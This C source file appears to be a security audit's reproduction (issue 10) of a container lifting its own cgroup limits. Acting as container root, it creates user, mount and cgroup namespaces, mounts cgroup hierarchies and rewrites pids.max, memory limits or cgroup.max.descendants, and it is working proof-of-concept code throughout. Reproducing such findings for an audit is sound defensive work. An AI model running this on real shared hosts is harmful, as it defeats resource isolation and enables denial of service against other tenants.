// SPDX-License-Identifier: MIT
/* cg-escape v1|v2 [LIMIT_BYTES]: the audit's reproduction (issue 10) of a
 * container lifting its own limits. As the container's root it makes a
 * user, mount and cgroup namespace, maps 0 to 0, then v1: mounts the pids
 * and memory hierarchies (rooted at its own cgroup in the new cgroup
 * namespace) and writes pids.max=max and memory limits of LIMIT_BYTES
 * (1 GiB); v2: mounts cgroup2 and writes its group's
 * cgroup.max.descendants. Prints one line per step, "STEP ok" or
 * "STEP ERRNONAME", and stops at the first failure. Static: it runs inside
 * the container's image. */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int step(const char *what, int r)
{
	if (r < 0)
		printf("%s %s\n", what, strerrorname_np(errno) ? strerrorname_np(errno) : "?");
	else
		printf("%s ok\n", what);
	fflush(stdout);
	return r;
}

static int put(const char *path, const char *val)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, val, strlen(val));
	int e = errno;
	close(fd);
	errno = e;
	return n == (ssize_t)strlen(val) ? 0 : -1;
}

/* mount one hierarchy (v1 controller, or "cgroup2") at dir */
static int mount_cg(const char *ctrl, const char *dir)
{
	mkdir(dir, 0755);
	if (strcmp(ctrl, "cgroup2") == 0)
		return mount("cgroup2", dir, "cgroup2", 0, NULL);
	return mount("cgroup", dir, "cgroup", 0, ctrl);
}

int main(int argc, char **argv)
{
	bool v2 = argc > 1 && strcmp(argv[1], "v2") == 0;
	const char *limit = argc > 2 ? argv[2] : "1073741824";
	if (step("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) < 0)
		return 1;
	if (step("setgroups", put("/proc/self/setgroups", "deny")) < 0 ||
	    step("uid_map", put("/proc/self/uid_map", "0 0 1")) < 0 ||
	    step("gid_map", put("/proc/self/gid_map", "0 0 1")) < 0)
		return 1;
	if (step("private", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL)) < 0 ||
	    step("tmpfs", mount("tmpfs", "/tmp", "tmpfs", 0, "size=64k")) < 0)
		return 1;
	if (v2) {
		/* the root of this cgroup namespace is the container's group */
		if (step("mount-cgroup2", mount_cg("cgroup2", "/tmp/cg2")) < 0 ||
		    step("cgroup.max.descendants", put("/tmp/cg2/cgroup.max.descendants", "5")) < 0)
			return 1;
		return 0;
	}
	if (step("mount-pids", mount_cg("pids", "/tmp/pids")) < 0 ||
	    step("pids.max", put("/tmp/pids/pids.max", "max")) < 0 ||
	    step("mount-memory", mount_cg("memory", "/tmp/memory")) < 0)
		return 1;
	/* memsw first: the kernel keeps memsw >= memory */
	if (access("/tmp/memory/memory.memsw.limit_in_bytes", F_OK) == 0 &&
	    step("memory.memsw", put("/tmp/memory/memory.memsw.limit_in_bytes", limit)) < 0)
		return 1;
	if (step("memory.limit", put("/tmp/memory/memory.limit_in_bytes", limit)) < 0)
		return 1;
	return 0;
}
